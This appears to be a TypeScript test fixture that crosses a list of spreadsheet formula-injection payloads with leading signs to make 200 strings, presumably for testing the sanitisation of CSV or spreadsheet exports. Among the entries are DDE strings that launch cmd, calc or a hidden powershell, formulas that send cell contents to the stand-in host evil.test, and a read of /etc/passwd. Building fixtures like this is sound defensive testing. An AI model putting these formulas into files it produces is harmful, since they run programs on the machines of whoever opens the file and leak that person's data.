/** What formulas are known to do to who opens a file: run programs, send cells away, follow links, or only count. */
const payloads = [
  '1+1',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  "cmd|'/c powershell -w hidden'!_xlbgnm.A1",
  'MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!""',
  'DDE("cmd";"/C calc";"!A0")',
  'HYPERLINK("http://evil.test?x="&A1,"Error: click here")',
  'WEBSERVICE("http://evil.test/"&A1)',
  'IMPORTXML(CONCAT("http://evil.test/?v=",CONCATENATE(A2:E2)),"//a")',
  'IMPORTDATA("http://evil.test/"&A1)',
  'IMAGE("http://evil.test/"&A1)',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "'file:///etc/passwd'#$passwd.A1",
  'IFERROR(1/0,"x")',
  '336123456789',
  'A1',
  '@SUM(1,1)',
  '"quoted" and "again"',
  'two\r\nlines\n=2+2',
  'a,b;c\td|e',
] as const;

const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '＠'] as const;

/** 200 texts that a spreadsheet would run as a formula if it took them for one: every sign with every formula. */
export const formulaTexts: readonly string[] = signs.flatMap(sign => payloads.map(payload => `${sign}${payload}`));
